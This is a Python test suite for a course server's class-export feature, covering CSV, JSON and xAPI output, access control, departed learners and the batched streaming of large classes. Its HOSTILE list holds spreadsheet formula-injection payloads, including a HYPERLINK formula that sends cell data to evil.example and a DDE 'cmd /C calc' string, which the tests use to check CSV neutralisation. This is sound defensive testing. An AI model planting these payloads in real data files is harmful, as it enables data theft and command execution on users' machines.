"""What a class did, as files: how each format is read again, hostile names, large and empty classes, and who may."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import time
import uuid
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from lab_server.lessons.catalog import Catalog
from lab_server.store import accounts, classes, members, staff, tables
from lab_server.store.accounts import Account
from lab_server.store.classes import Class
from lab_server.store.engine import Store
from lab_server.store.members import Member
from lab_server.store.progress import Outcome, Record
from lab_server.store.staff import Role
from lab_server.web import exports
from lab_server.web.afterwards import FORMS, Afterwards
from lab_server.web.classes import Classes
from lab_server.web.exports import safe
from lab_server.web.standings import AT_ONCE
from lab_server.web.taught import Learner, moment, taught
from tests.conftest import LESSON, Make, Server
from tests.web import course
from tests.web.course import STEPS_ONLY, TASK
from tests.web.instructor import Instructor, account, instructor
from tests.web.test_classes import join, joined
from tests.web.test_progress import answer, do_everything

Json = dict[str, Any]
ORIGIN = "https://course.example.org"
GONE = "concepts/99-gone"


@pytest.fixture
def lessons(tmp_path: Path) -> Catalog:
    return course.make(tmp_path / "course")


@pytest.fixture
def server(make_server: Make, lessons: Catalog) -> Server:
    return make_server(course=lessons)


@pytest.fixture
def ina(server: Server) -> Instructor:
    return instructor(server)


def a_class(*lessons: str, title: str = "Monday") -> Class:
    return Class("c1", title, lessons, "123456789", 30, None, None, False, False, 1.0, 1, {}, {})


def ann(*records: Record, name: str = "Ann") -> Learner:
    return Learner(Member("m1", "c1", "secret", name, 1000.0), records)


def record(kind: str, item: str, outcome: Outcome = Outcome.RIGHT, lesson: str = LESSON, **detail: Any) -> Record:
    return Record(lesson, kind, item, outcome, detail, 2000.0, 3000.0, 2)


def made(form: str, of: Class, lessons: Catalog, *there: Learner, done: tuple[str, ...] = ()) -> str:
    told = FORMS[form](of, taught(of, lessons.lessons, done), [one.member.name for one in there], 4000.0, ORIGIN)
    return told.begin() + "".join(told.some([one]) for one in there) + told.end()


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix(exports.BOM), newline="")))


# --- CSV ---


def test_a_row_a_learner_says_how_far_each_lesson_is(lessons: Catalog) -> None:
    first = course.question(lessons, 0)
    wrong = record("question", first.id, Outcome.DONE, picked=course.options(lessons, 0, False)[:1])
    done = ann(record("step", "one/1"), record("step", "one/2", Outcome.DONE), record("task", TASK), wrong)
    (row,) = rows(made("learners.csv", a_class(LESSON), lessons, done))
    assert row == {
        "name": "Ann",
        "id": "m1",
        "joined": "1970-01-01T00:16:40Z",
        "last active": "1970-01-01T00:50:00Z",
        "A Lesson: steps of 4": "2",
        "A Lesson: tasks of 1": "1",
        "A Lesson: questions answered of 2": "1",
        "A Lesson: right answers of 2": "0",
        "A Lesson: predictions of 2": "0",
        "A Lesson: complete": "no",
    }


def test_a_row_an_answer_says_what_was_picked(lessons: Catalog) -> None:
    second = course.question(lessons, 1)
    picked = course.options(lessons, 1)
    (row,) = rows(made("questions.csv", a_class(), lessons, ann(record("question", second.id, picked=picked))))
    assert (row["question"], row["picked"], row["right"]) == ("Which two are there?", "mount | net", "yes")
    assert (row["tries"], row["first"], row["last"]) == ("2", "1970-01-01T00:33:20Z", "1970-01-01T00:50:00Z")


HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Ann")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    'Ann "the" O’Hara, jr;x',
    "two\nlines",
    "two\r\nlines",
    "\u202egnp.exe",
    "אבג",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_is_one_cell_and_no_formula(lessons: Catalog, name: str) -> None:
    text = made("learners.csv", a_class(LESSON), lessons, ann(name=name), ann(name="Bob"))
    one, two = rows(text)
    assert one["name"].removeprefix("'") == name and two["name"] == "Bob"
    assert not one["name"].startswith(exports.FORMULA)
    assert one["name"].startswith("'") == name.startswith(exports.FORMULA)
    assert (text[0] == exports.BOM) == (not name.isascii())
    there = ann(record("step", "one/1"), name=name)  # elsewhere a name is as it is
    assert json.loads(made("json", a_class(LESSON), lessons, there))["learners"][0]["name"] == name
    assert json.loads(made("xapi.json", a_class(LESSON), lessons, there))[0]["actor"]["name"] == name


def test_lines_end_and_texts_are_quoted_as_the_rfc_says(lessons: Catalog) -> None:
    text = made("learners.csv", a_class(STEPS_ONLY), lessons, ann(name='a"b'))
    head, row, rest = text.split("\r\n")
    assert rest == "" and "\n" not in head + row
    assert row == '"a""b","m1","1970-01-01T00:16:40Z","",0,"no"'


def test_two_lessons_of_one_title_are_two_columns(lessons: Catalog) -> None:
    one, other = lessons.lessons
    same = Catalog((one, replace(other, title=one.title)))
    (row,) = rows(made("learners.csv", a_class(), same, ann()))
    assert f"{one.title} ({one.id}): complete" in row and f"{one.title} ({other.id}): complete" in row


# --- what the catalogue no longer has ---


@pytest.mark.parametrize("of", [a_class(LESSON, GONE), a_class()])
def test_a_lesson_that_left_the_catalogue_is_named_and_counted(lessons: Catalog, of: Class) -> None:
    wrong = record("question", "q9", Outcome.DONE, GONE, picked=["p1", "p2"])
    there = ann(record("step", "b/1", lesson=GONE), record("task", "t", lesson=GONE), wrong)
    (row,) = rows(made("learners.csv", of, lessons, there, done=(GONE, LESSON)))
    assert row[f"{GONE} (no longer in the course): steps"] == "1"
    assert row[f"{GONE} (no longer in the course): questions answered"] == "1"
    assert row[f"{GONE} (no longer in the course): right answers"] == "0"
    (row,) = rows(made("questions.csv", of, lessons, there, done=(GONE,)))
    assert (row["lesson id"], row["question"], row["picked"]) == (GONE, "(no longer in the course)", "p1 | p2")
    told = json.loads(made("json", of, lessons, there, done=(GONE,)))
    assert [one["there"] for one in told["lessons"]][-1] is False and told["learners"][0]["tasks"][0]["lesson"] == GONE
    said = json.loads(made("xapi.json", of, lessons, there, done=(GONE,)))
    assert {one["verb"]["display"]["en"] for one in said} == {"attempted", "passed", "answered"}
    assert all(one["object"]["id"].startswith(f"{ORIGIN}/{GONE}/") for one in said)


def test_a_question_and_an_option_that_are_no_longer_there(lessons: Catalog) -> None:
    first = course.question(lessons, 0)
    there = ann(record("question", "old"), record("question", first.id, picked=["gone", first.options[0].id]))
    told = json.loads(made("json", a_class(LESSON), lessons, there))["learners"][0]
    old, new = told["questions"]
    assert (old["text"], old["picked"]) == (None, [])
    assert new["picked"] == [{"id": "gone", "text": "gone"}, {"id": first.options[0].id, "text": "PID"}]
    assert told["lessons"][LESSON]["done"]["answered"] == 1, "what the lesson no longer asks counts nothing"


# --- xAPI ---

TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")


def valid(said: Json) -> None:
    """What the specification (1.0.3, Part Two) asks of a statement that has these parts."""
    uuid.UUID(said["id"])
    assert set(said) == {"id", "actor", "verb", "object", "result", "context", "timestamp"}
    assert set(said["actor"]) == {"objectType", "name", "account"}
    assert set(said["actor"]["account"]) == {"homePage", "name"}
    assert said["verb"]["id"].startswith("http://adlnet.gov/expapi/verbs/")
    assert TIME.fullmatch(said["timestamp"])
    about = said["object"]
    assert about["objectType"] == "Activity" and about["id"].startswith(ORIGIN)
    assert about["definition"]["type"].startswith("http://adlnet.gov/expapi/activities/")
    result = said["result"]
    assert set(result) <= {"success", "completion", "score", "response", "extensions"}
    if score := result.get("score"):
        assert 0 <= score["scaled"] <= 1 and score["min"] <= score["raw"] <= score["max"]
    for found in said["context"]["contextActivities"].values():
        assert all(one["objectType"] == "Activity" for one in found)


def test_statements_say_who_did_what_with_which_result(lessons: Catalog) -> None:
    right = [record("question", course.question(lessons, n).id, picked=course.options(lessons, n)) for n in range(2)]
    there = ann(record("task", TASK), *right)
    said = json.loads(made("xapi.json", a_class(LESSON), lessons, there))
    for one in said:
        valid(one)
        assert one["actor"]["account"] == {"homePage": ORIGIN, "name": "m1"} and "secret" not in str(one)
    verbs = [(one["verb"]["display"]["en"], one["object"]["id"].removeprefix(f"{ORIGIN}/{LESSON}/")) for one in said]
    asked = [course.question(lessons, n).id for n in range(2)]
    quiz = lessons.lesson(LESSON).quizzes[0].id
    assert verbs == [
        ("attempted", ""),
        ("completed", ""),
        ("passed", f"#task-{TASK}"),
        ("answered", f"#question-{asked[0]}"),
        ("answered", f"#question-{asked[1]}"),
        ("passed", f"#{quiz}"),
    ]
    assert said[4]["result"]["response"] == "[,]".join(course.options(lessons, 1)) and said[4]["result"]["success"]
    assert len({one["id"] for one in said}) == len(said)
    assert json.loads(made("xapi.json", a_class(LESSON), lessons, there)) == said, "the same again is the same"
    later = json.loads(made("xapi.json", a_class(LESSON), lessons, replace(there, records=there.records[:-1])))
    assert {one["id"] for one in later} & {one["id"] for one in said} == {said[n]["id"] for n in (2, 3)}


def test_a_quiz_is_failed_only_once_all_of_it_is_answered(lessons: Catalog) -> None:
    wrong = record("question", course.question(lessons, 0).id, Outcome.DONE, picked=[])
    right = record("question", course.question(lessons, 1).id, picked=course.options(lessons, 1))

    def of_quiz(*records: Record) -> list[tuple[str, Json]]:
        said = json.loads(made("xapi.json", a_class(LESSON), lessons, ann(*records)))
        kind = "http://adlnet.gov/expapi/activities/assessment"
        about = [one for one in said if one["object"]["definition"]["type"] == kind]
        return [(one["verb"]["display"]["en"], one["result"]["score"]) for one in about]

    assert of_quiz(wrong) == []
    assert of_quiz(wrong, right) == [("failed", {"scaled": 0.5, "raw": 1, "min": 0, "max": 2})]


@pytest.mark.parametrize("form", FORMS)
def test_a_class_in_which_nobody_is_gives_a_whole_file(lessons: Catalog, form: str) -> None:
    text = made(form, a_class(), lessons)
    if form.endswith(".csv"):
        assert text.count("\r\n") == 1 and rows(text) == []
    else:
        told = json.loads(text)
        assert (told["learners"] if form == "json" else told) == []


def test_times_and_cells() -> None:
    assert moment(None) == "" and moment(1.8e9) == "2027-01-15T08:00:00Z"
    assert [safe(text) for text in ("", "Ann", "=1", "a=1")] == ["", "Ann", "'=1", "a=1"]


# --- through the whole server ---


def test_who_runs_a_class_takes_it_along_and_that_is_written_down(
    server: Server, ina: Instructor, lessons: Catalog
) -> None:
    of = ina.make("Monday", lessons=[LESSON])
    one = joined(server, of, "Ann")
    joined(server, of, "=1+1")
    do_everything(one, lessons)
    where = f"/api/classes/{of['id']}/export"
    told = ina.http.get(f"{where}.csv")
    assert told.headers["content-type"] == "text/csv; charset=utf-8"
    assert told.headers["content-disposition"] == f'attachment; filename="class-{of["id"]}-learners.csv"'
    assert [(row["name"], row["A Lesson: complete"]) for row in rows(told.text)] == [("Ann", "yes"), ("'=1+1", "no")]
    assert [row["right"] for row in rows(ina.http.get(f"{where}.csv?what=questions").text)] == ["yes", "yes"]
    found = ina.http.get(f"{where}.json").json()
    assert found["learners"][0]["lessons"][LESSON]["complete"] and one.id not in str(found)
    for said in ina.http.get(f"{where}.xapi.json").json():
        assert said["actor"]["account"]["homePage"] == server.origin
    assert ina.http.get(f"{where}.csv?what=everything").status_code == 422
    log = ina.http.get(f"/api/classes/{of['id']}/audit").json()
    forms = ["xapi.json", "json", "questions.csv", "learners.csv"]
    assert [(entry["act"], entry["by"], entry["detail"]["form"]) for entry in log] == [
        ("exported", "Ina", form) for form in forms
    ]


def test_an_assistant_may_another_instructor_and_a_learner_may_not(server: Server, ina: Instructor) -> None:
    of = ina.make()
    joined(server, of, "Ann")
    account(server, "Ossi")
    ina.http.post(f"/api/classes/{of['id']}/staff", json={"name": "Ossi", "role": "assistant"})
    ossi = Instructor(server)
    ossi.sign_in("Ossi")
    where = f"/api/classes/{of['id']}/export.csv"
    assert ossi.http.get(where).status_code == 200
    assert instructor(server, "Eve").http.get(where).status_code == 404
    assert joined(server, of, "Bob").http.get(where).status_code == 401
    assert instructor(server, "Root", admin=True).http.get(where).status_code == 200


def test_who_left_is_in_no_file(server: Server, ina: Instructor, lessons: Catalog) -> None:
    of = ina.make(lessons=[LESSON])
    one, two = joined(server, of, "Ann"), joined(server, of, "Bob")
    answer(one, course.question(lessons, 0).id, course.options(lessons, 0))
    assert one.http.delete(f"/api/memberships/{of['id']}").status_code == 204
    for form in ("csv", "json", "xapi.json"):
        text = ina.http.get(f"/api/classes/{of['id']}/export.{form}").text
        assert "Ann" not in text
    assert join(two, of, "Ann").status_code == 200 and "Ann" in ina.http.get(f"/api/classes/{of['id']}/export.csv").text


# --- a large class ---


@pytest.fixture
async def store(tmp_path: Path) -> AsyncIterator[Store]:
    made = Store(f"sqlite:///{tmp_path / 'course.sqlite3'}")
    yield made
    await made.close()


async def crowd(store: Store, lessons: Catalog, count: int) -> tuple[Account, Class]:
    """A class whose learners did everything."""
    lesson = lessons.lesson(LESSON)
    things: list[tuple[str, str, Json]] = [("step", f"one/{n}", {"matches": True, "exit": 0}) for n in range(1, 5)]
    things += [("task", TASK, {})]
    for question in lesson.quizzes[0].questions:
        things.append(("question", question.id, {"picked": [one.id for one in question.options if one.right]}))
    async with store.write() as at:
        who = await accounts.make(at, "Ina", "a hash", False, 1.0)
        of = await classes.make(at, "Everybody", (), 1000, None, None, 1.0)
        await staff.put(at, of.id, who.id, Role.INSTRUCTOR, 1.0)
        names = [f"Learner {n}" for n in range(count)]
        rows = [{"id": name, "made": 2.0, "seen": 2.0} for name in names]
        await at.execute(tables.learners.insert(), rows)
        rows = [
            {"id": f"{n:012x}", "class": of.id, "learner": name, "name": name, "key": name}
            for n, name in enumerate(names)
        ]
        await at.execute(tables.members.insert(), [row | {"joined": 2.0} for row in rows])
        for kind, item, detail in things:
            row = {"lesson": LESSON, "kind": kind, "item": item, "outcome": 2, "detail": detail}
            row |= {"first": 3.0, "last": 3.0, "tries": 1}
            await at.execute(tables.progress.insert(), [row | {"learner": name} for name in names])
    return who, of


async def test_a_thousand_learners_are_told_a_few_at_a_time(
    store: Store, lessons: Catalog, monkeypatch: pytest.MonkeyPatch, record_property: Any
) -> None:
    """What counts is that never more than AT_ONCE are read in one go, and that the loop has others' turns in between."""
    who, of = await crowd(store, lessons, 1000)
    read: list[int] = []
    kept = members.kept

    async def counted(at: Any, some: Any, ids: Any) -> Any:
        read.append(len(some))
        return await kept(at, some, ids)

    monkeypatch.setattr(members, "kept", counted)
    nothing: Any = None
    after = Afterwards(lessons, store, Classes(lessons, store), nothing, nothing)
    turns, longest = 0, 0.0

    async def another() -> None:
        nonlocal turns, longest
        last = time.thread_time()
        while True:
            await asyncio.sleep(0)
            now = time.thread_time()
            turns, longest, last = turns + 1, max(longest, now - last), now

    for form in FORMS:
        read.clear()
        turns, longest = 0, 0.0
        beside = asyncio.create_task(another())
        _, text = await after.export(who, of.id, form, ORIGIN)
        size = pieces = 0
        async for piece in text:
            before, size, pieces = turns, size + len(piece), pieces + 1
            await asyncio.sleep(0)
            assert turns > before
        beside.cancel()
        assert read == [AT_ONCE] * (1000 // AT_ONCE) and pieces == len(read) + 2 and turns > pieces
        words = f"{form}: {size / 1e6:.1f} MB; the loop's longest block took {1000 * longest:.0f} ms of a processor"
        print(words)
        record_property(form, words)
